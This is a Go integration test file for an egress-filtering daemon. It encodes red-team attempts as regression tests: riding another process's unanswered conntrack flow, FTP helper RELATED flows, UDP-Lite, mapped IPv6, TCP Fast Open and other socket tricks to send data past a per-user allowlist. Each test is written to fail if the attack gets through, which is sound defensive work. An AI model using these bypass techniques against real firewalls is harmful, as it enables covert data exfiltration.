//go:build linux

package integration

// Red-team findings that are closed, and the candidates the red team found
// blocked: each test performs the attack as an unprivileged process of a
// protected user and must keep failing to get data out. The findings still
// open are in redteam_open_test.go, behind the build tag redteam
// (docs/security.md, "egressd does not stop").
//
// The attacker is a child process of this test binary running as uidA
// (billing) with no capability, inside the world's namespace; the verdict is
// taken on the receiving side, as in attack_test.go.

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	childModes["label-ride"] = childLabelRide
	childModes["probes"] = childProbes
}

// ---------------------------------------------------------------------------
// R3. Adopting another process's flow while it is still NEW. The first rule
// of the restricted chain, `ct state new ct label set <skuid>`, runs before
// the verdict and also matches packets of a flow that is confirmed but has
// not seen a reply yet (UDP, ICMP, TCP SYN retransmissions): conntrack still
// calls it NEW. The label write sticks to the live entry even though the
// packet itself is then rejected. So a protected user that sends one
// (rejected) packet on someone else's unanswered flow labels it with its
// own uid; once the far end answers, the flow is ESTABLISHED, its label says
// the user opened it, and the user's packets pass in the original direction
// to a destination its allowlist does not hold. (Labels are ORed: on a flow
// of another *protected* user B the label becomes A|B, which equals A when
// B's uid bits are a subset of A's.) The opener now sits in the conntrack
// mark (`ct mark set meta skuid`, same rule, same first-packet condition),
// which replaces instead of ORing; the attack below holds against it.

// childLabelRide binds ATTACK_PORT, sends probe-NONCE to addr (refused while
// the flow is NEW), reports, waits for a line on stdin, reads whatever came
// in, sends exfil-NONCE and reports again.
func childLabelRide(addr string) int {
	port, _ := strconv.Atoi(os.Getenv("ATTACK_PORT"))
	dst := netip.MustParseAddrPort(addr)
	nonce := os.Getenv("ATTACK_NONCE")
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		report(map[string]any{"error": errName(err)})
		return otherError
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrInet4{Port: port}); err != nil {
		report(map[string]any{"bind": errName(err)})
		return otherError
	}
	probe := "not sent"
	if os.Getenv("ATTACK_PROBE") == "1" {
		probe = errName(unix.Sendto(fd, []byte("probe-"+nonce), 0, sockaddr(dst)))
	}
	report(map[string]any{"bind": "ok", "probe": probe})
	os.Stdin.Read(make([]byte, 8)) //nolint:errcheck
	tv := unix.NsecToTimeval((500 * time.Millisecond).Nanoseconds())
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv) //nolint:errcheck
	n, _, rerr := unix.Recvfrom(fd, make([]byte, 64), 0)
	report(map[string]any{"recv": errName(rerr), "recv_len": n,
		"exfil": errName(unix.Sendto(fd, []byte("exfil-"+nonce), 0, sockaddr(dst)))})
	return 0
}

func TestRedteamAdoptNewFlow(t *testing.T) {
	w := newWorld(t)
	w.standardConfig()
	const far = "203.0.113.66:9999" // not in billing's allowlist
	p := w.addPeer("203.0.113.66")
	w.start()
	sink := w.record(p, far, false)
	w.expect(uidA, "udp", far, okRefused)
	for _, probe := range []bool{false, true} {
		// Root (any unrestricted process) sends a datagram to the far host
		// from port P and closes its socket; no answer yet.
		var port int
		err := w.ns.Do(func() error {
			c, err := net.Dial("udp4", far)
			if err != nil {
				return err
			}
			defer c.Close()
			port = c.LocalAddr().(*net.UDPAddr).Port
			_, err = c.Write([]byte("root-hello"))
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		w.barrier(w.ns, sink, far)
		nonce := fmt.Sprintf("%d-%v", time.Now().UnixNano(), probe)
		mode := "label-ride"
		// Control (probe false): without the early probe the flow stays
		// root's, and the user's packet on it is judged by destination.
		c := w.startChild(uidA, mode, far, "ATTACK_PORT="+strconv.Itoa(port), "ATTACK_NONCE="+nonce,
			"ATTACK_PROBE="+map[bool]string{false: "0", true: "1"}[probe])
		first := c.next(t, 10*time.Second)
		// The far host answers root's datagram: the flow is ESTABLISHED.
		if _, err := sink.pc.WriteTo([]byte("answer"), &net.UDPAddr{IP: net.ParseIP(worldWire4), Port: port}); err != nil {
			t.Fatal(err)
		}
		time.Sleep(100 * time.Millisecond)
		c.stdin.Write([]byte("go\n")) //nolint:errcheck
		second := c.next(t, 10*time.Second)
		c.wait(t)
		w.barrier(w.ns, sink, far)
		t.Logf("probe while NEW=%v: bind %v, probe %v; answer received %v; exfil send %v",
			probe, first["bind"], first["probe"], second["recv"], second["exfil"])
		if probe && sink.seen("probe-"+nonce) {
			t.Errorf("the probe on the NEW flow itself reached %s", far)
		}
		switch {
		case !probe && sink.seen("exfil-"+nonce):
			t.Fatalf("control failed: without the probe, the user's packet on root's established flow reached %s", far)
		case probe && sink.seen("exfil-"+nonce):
			t.Errorf("probe while NEW=%v: a protected user sent data to the unlisted %s on a flow root opened, after labelling it with one rejected packet", probe, far)
		}
	}
}

// ---------------------------------------------------------------------------
// Candidates that are blocked today: kept as guards. Each tries to reach an
// unlisted destination in another way; none may arrive.

// childProbes runs each candidate and reports the kernel's answer to each.
func childProbes(string) int {
	res := map[string]any{}
	nonce := os.Getenv("ATTACK_NONCE")
	udp := netip.MustParseAddrPort(os.Getenv("ATTACK_UDP"))
	// IPv4-mapped IPv6 on a dual-stack socket.
	if fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0); err == nil {
		m := netip.AddrPortFrom(netip.AddrFrom16(udp.Addr().As16()), udp.Port())
		res["mapped"] = errName(unix.Sendto(fd, []byte("mapped-"+nonce), 0, sockaddr(m)))
		unix.Close(fd)
	}
	// UDP-Lite to the same address and port.
	if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_UDPLITE); err == nil {
		res["udplite"] = errName(unix.Sendto(fd, []byte("udplite-"+nonce), 0, sockaddr(udp)))
		unix.Close(fd)
	} else {
		res["udplite"] = "socket: " + errName(err)
	}
	// SCTP, DCCP: socket() alone.
	_, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP)
	res["sctp"] = "socket: " + errName(err)
	_, err = unix.Socket(unix.AF_INET, unix.SOCK_DCCP, unix.IPPROTO_DCCP)
	res["dccp"] = "socket: " + errName(err)
	_, err = unix.Socket(unix.AF_SMC, unix.SOCK_STREAM, 0)
	res["smc"] = "socket: " + errName(err)
	_, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 256) // IPPROTO_SMC
	res["ipproto_smc"] = "socket: " + errName(err)
	_, err = unix.Socket(unix.AF_RDS, unix.SOCK_SEQPACKET, 0)
	res["rds"] = "socket: " + errName(err)
	_, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	res["packet"] = "socket: " + errName(err)
	_, err = unix.Socket(unix.AF_XDP, unix.SOCK_RAW, 0)
	res["xdp"] = "socket: " + errName(err)
	_, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	res["raw"] = "socket: " + errName(err)
	// AF_VSOCK: socket() only (never connected here: the hypervisor's end
	// is not ours to talk to).
	_, err = unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	res["vsock"] = "socket: " + errName(err)
	// IPv6 anycast join (would make the kernel answer for an address).
	if fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0); err == nil {
		res["anycast_join"] = errName(unix.SetsockoptIPv6Mreq(fd, unix.IPPROTO_IPV6, unix.IPV6_JOIN_ANYCAST,
			&unix.IPv6Mreq{Multiaddr: netip.MustParseAddr("2001:db8::77").As16()}))
		unix.Close(fd)
	}
	// Broadcast.
	if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0); err == nil {
		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1) //nolint:errcheck
		res["broadcast"] = errName(unix.Sendto(fd, []byte("bcast-"+nonce), 0, &unix.SockaddrInet4{Addr: [4]byte{255, 255, 255, 255}, Port: int(udp.Port()) + 1}))
		unix.Close(fd)
	}
	// TCP Fast Open: data in the SYN of an unlisted connection.
	if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0); err == nil {
		res["tfo"] = errName(unix.Sendto(fd, []byte("tfo-"+nonce), unix.MSG_FASTOPEN, sockaddr(netip.MustParseAddrPort(os.Getenv("ATTACK_TCP")))))
		unix.Close(fd)
	}
	report(res)
	return 0
}

func TestRedteamBlockedCandidates(t *testing.T) {
	w := newWorld(t)
	w.standardConfig()
	w.start()
	const udpDst, tcpDst = "198.51.100.20:7778", "198.51.100.20:7777"
	sink := w.record(w.ns, udpDst, false)
	lite := w.recordUDPLite(w.ns, udpDst)
	tc := w.countTCP(w.ns, tcpDst)
	bsink := w.record(w.ns, "0.0.0.0:7779", false)
	nonce := strconv.FormatInt(time.Now().UnixNano(), 36)
	_, res := w.runChild(uidA, "probes", "", "ATTACK_UDP="+udpDst, "ATTACK_TCP="+tcpDst, "ATTACK_NONCE="+nonce)
	w.barrier(w.ns, sink, udpDst)
	for k, v := range res {
		t.Logf("%-12s %v", k, v)
	}
	if sink.seen("mapped-" + nonce) {
		t.Errorf("an IPv4-mapped datagram reached the unlisted %s", udpDst)
	}
	// The UDP-Lite sink receives what root sends it (the check can fail),
	// and nothing of the user's.
	err := w.ns.Do(func() error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_UDPLITE)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return unix.Sendto(fd, []byte("control-"+nonce), 0, sockaddr(netip.MustParseAddrPort(udpDst)))
	})
	if err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(2 * time.Second); !lite.seen("control-"+nonce) && time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
	}
	if !lite.seen("control-" + nonce) {
		t.Fatal("root's UDP-Lite datagram did not reach the UDP-Lite sink: the UDP-Lite check cannot fail")
	}
	if lite.seen("udplite-" + nonce) {
		t.Errorf("a UDP-Lite datagram reached the unlisted %s", udpDst)
	}
	if bsink.seen("bcast-" + nonce) {
		t.Errorf("a broadcast datagram was delivered")
	}
	if tc.count() > 0 {
		t.Errorf("TCP Fast Open connection reached the unlisted %s", tcpDst)
	}
}

// ---------------------------------------------------------------------------
// Conntrack helpers: an FTP helper assigned by the host's own firewall (as
// `ct helper set "ftp"` for port 21). A PASV answer of an allowlisted FTP
// server creates an expectation; the data connection is RELATED. Does the
// restricted chain let the user open the expected port, which its
// allowlist does not hold?

func init() { childModes["ftp-pasv"] = childFTPPasv }

// childFTPPasv connects to addr, reads the 227 line, connects to the port it
// names on the same host and reports.
func childFTPPasv(addr string) int {
	res := map[string]any{}
	c, err := net.DialTimeout("tcp", addr, 1500*time.Millisecond)
	res["control"] = errName(err)
	if err == nil {
		defer c.Close()
		c.SetDeadline(time.Now().Add(2 * time.Second)) //nolint:errcheck
		var line string
		rd := bufio.NewReader(c)
		for !strings.HasPrefix(line, "227 ") {
			if line, err = rd.ReadString('\n'); err != nil {
				break
			}
		}
		var h [4]int
		var p1, p2 int
		res["line"] = line
		if i := indexByte(line, '('); i >= 0 {
			fmt.Sscanf(line[i:], "(%d,%d,%d,%d,%d,%d)", &h[0], &h[1], &h[2], &h[3], &p1, &p2) //nolint:errcheck
		}
		host, _, _ := net.SplitHostPort(addr)
		d, err := net.DialTimeout("tcp", net.JoinHostPort(host, strconv.Itoa(p1*256+p2)), 1500*time.Millisecond)
		res["data"] = errName(err)
		if err == nil {
			d.Close()
		}
	}
	report(res)
	return 0
}

func indexByte(s string, b byte) int {
	for i := 0; i < len(s); i++ {
		if s[i] == b {
			return i
		}
	}
	return -1
}

// nftIn loads a ruleset into ns with nft -f - (a fixed text; the host's own
// firewall in the test world, never the host's).
func nftIn(t *testing.T, ns interface{ Start(*exec.Cmd) error }, ruleset string) {
	t.Helper()
	cmd := exec.Command("nft", "-f", "-")
	cmd.Stdin = stringsReader(ruleset)
	out := &safeBuf{}
	cmd.Stdout, cmd.Stderr = out, out
	if err := ns.Start(cmd); err != nil {
		t.Skipf("nft: %v", err)
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("nft -f: %v: %s", err, out.String())
	}
}

func TestRedteamFTPHelperRelated(t *testing.T) {
	w := newWorld(t)
	w.standardConfig()
	w.billingWith("192.0.2.10:21")
	nftIn(t, w.ns, `table inet helpers {
  ct helper ftp-std { type "ftp" protocol tcp; }
  chain out { type filter hook output priority -150; policy accept; tcp dport 21 ct helper set "ftp-std"; ct state related tcp dport 8000 counter name related8000; }
  counter related8000 { }
}
`)
	t.Cleanup(func() { nftIn(t, w.ns, "delete table inet helpers\n") })
	const data = "192.0.2.10:8000" // 8000 = 31*256+64: not in billing's allowlist
	tc := w.countTCP(w.ns, data)
	ln, err := w.ns.Listen("tcp", "192.0.2.10:21")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			// The helper parses a line only after one it has seen end
			// (find_nl_seq): a banner first, then the PASV answer.
			c.Write([]byte("220 ready\r\n")) //nolint:errcheck
			time.Sleep(50 * time.Millisecond)
			c.Write([]byte("227 Entering Passive Mode (192,0,2,10,31,64).\r\n")) //nolint:errcheck
			time.Sleep(500 * time.Millisecond)
			c.Close()
		}
	}()
	w.start()
	w.expect(uidA, "tcp", data, okRefused) // control: the port itself is denied
	_, res := w.runChild(uidA, "ftp-pasv", "192.0.2.10:21")
	t.Logf("child: control %v, line %q, data connection %v", res["control"], res["line"], res["data"])
	if res["control"] != "ok" {
		t.Fatalf("control failed: the allowlisted FTP control connection: %v", res["control"])
	}
	// The scenario is real only if the data connection's SYN was RELATED.
	cmd := exec.Command("nft", "list", "counter", "inet", "helpers", "related8000")
	out := &safeBuf{}
	cmd.Stdout, cmd.Stderr = out, out
	if err := w.ns.Start(cmd); err != nil {
		t.Fatal(err)
	}
	cmd.Wait() //nolint:errcheck
	if strings.Contains(out.String(), "packets 0 ") {
		t.Fatalf("the helper created no expectation (the SYN to %s was not RELATED): the test says nothing\n%s", data, out.String())
	}
	t.Logf("RELATED SYNs seen by the host's helper table: %s", strings.TrimSpace(out.String()))
	if tc.count() > 0 {
		t.Errorf("the FTP helper's RELATED flow let a protected user reach the unlisted %s", data)
	}
}

func stringsReader(s string) *strings.Reader { return strings.NewReader(s) }

// safeBuf is a bytes.Buffer safe for the two writers exec gives it.
type safeBuf struct {
	mu sync.Mutex
	b  []byte
}

func (b *safeBuf) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.b = append(b.b, p...)
	return len(p), nil
}

func (b *safeBuf) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return string(b.b)
}

// Neighbour discovery: a denied packet to an on-link address must not make
// the kernel solicit it (the solicitation names a user-chosen 128-bit
// target). The output hook runs before neighbour resolution. Control: root's
// packet to another on-link address is solicited, so the sniffer works.
func TestRedteamNeighbourSolicitation(t *testing.T) {
	w := newWorld(t)
	w.standardConfig()
	p := w.addPeer()
	w.start()
	sn := w.sniffReports(p, "wire")
	const userDst, rootDst = "[2001:db8:1::77]:9", "[2001:db8:1::78]:9"
	got := w.connect(uidA, "udp", userDst)
	t.Logf("uid %d udp %s: %s", uidA, userDst, resultName[got])
	if err := w.ns.Do(func() error {
		c, err := net.Dial("udp", rootDst)
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = c.Write([]byte("x"))
		return err
	}); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) && !sn.seen(netip.MustParseAddr("2001:db8:1::78")) {
		time.Sleep(50 * time.Millisecond)
	}
	if !sn.seen(netip.MustParseAddr("2001:db8:1::78")) {
		t.Fatal("control failed: root's packet to an on-link address was not solicited")
	}
	if sn.seen(netip.MustParseAddr("2001:db8:1::77")) {
		t.Error("a protected user's denied packet made the kernel solicit its on-link destination")
	}
}

// linkSniffer records the IGMPv3 and MLDv2 report groups (and the targets of
// neighbour solicitations) that arrive on a
// device of ns (an AF_PACKET socket of root in the peer: the other host).
type linkSniffer struct {
	mu     sync.Mutex
	groups map[netip.Addr]bool
}

func (w *world) sniffReports(ns interface{ Do(func() error) error }, dev string) *linkSniffer {
	w.t.Helper()
	s := &linkSniffer{groups: map[netip.Addr]bool{}}
	w.sniff(ns, dev, s.parse)
	return s
}

// sniff hands every frame that arrives on device dev of ns to seen (an
// AF_PACKET socket of root there), until the test ends; seen's frame is
// valid only during the call.
func (w *world) sniff(ns interface{ Do(func() error) error }, dev string, seen func(frame []byte)) {
	w.t.Helper()
	var fd int
	err := ns.Do(func() error {
		ifi, err := net.InterfaceByName(dev)
		if err != nil {
			return err
		}
		if fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL))); err != nil {
			return err
		}
		return unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifi.Index})
	})
	if err != nil {
		w.t.Fatal(err)
	}
	done := make(chan struct{})
	w.t.Cleanup(func() { unix.Close(fd); <-done })
	tv := unix.NsecToTimeval((200 * time.Millisecond).Nanoseconds())
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv) //nolint:errcheck
	go func() {
		defer close(done)
		buf := make([]byte, 2048)
		for {
			n, _, err := unix.Recvfrom(fd, buf, 0)
			if err == unix.EAGAIN || err == unix.EINTR {
				continue
			}
			if err != nil {
				return
			}
			seen(buf[:n])
		}
	}()
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func (s *linkSniffer) parse(f []byte) {
	if len(f) < 14 {
		return
	}
	et, p := binary.BigEndian.Uint16(f[12:14]), f[14:]
	var groups []netip.Addr
	switch {
	case et == 0x0800 && len(p) >= 20 && p[9] == 2: // IPv4, IGMP
		ihl := int(p[0]&0xf) * 4
		if len(p) < ihl+8 || p[ihl] != 0x22 { // IGMPv3 membership report
			return
		}
		g, n := p[ihl+8:], int(binary.BigEndian.Uint16(p[ihl+6:]))
		for ; n > 0 && len(g) >= 8; n-- {
			groups = append(groups, netip.AddrFrom4([4]byte(g[4:8])))
			g = g[8+int(g[1])*4+int(binary.BigEndian.Uint16(g[2:4]))*4:]
		}
	case et == 0x86dd && len(p) >= 64 && p[6] == 58 && p[40] == 135: // neighbour solicitation
		groups = append(groups, netip.AddrFrom16([16]byte(p[48:64])))
	case et == 0x86dd && len(p) >= 48 && p[6] == 0: // IPv6, hop-by-hop first
		h := p[40:]
		if h[0] != 58 || len(h) < 8*(int(h[1])+1)+8 {
			return
		}
		m := h[8*(int(h[1])+1):]
		if m[0] != 143 { // MLDv2 report
			return
		}
		g, n := m[8:], int(binary.BigEndian.Uint16(m[6:8]))
		for ; n > 0 && len(g) >= 20; n-- {
			groups = append(groups, netip.AddrFrom16([16]byte(g[4:20])))
			g = g[20+int(g[1])*4+int(binary.BigEndian.Uint16(g[2:4]))*16:]
		}
	}
	s.mu.Lock()
	for _, g := range groups {
		s.groups[g] = true
	}
	s.mu.Unlock()
}

func (s *linkSniffer) seen(g netip.Addr) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.groups[g]
}
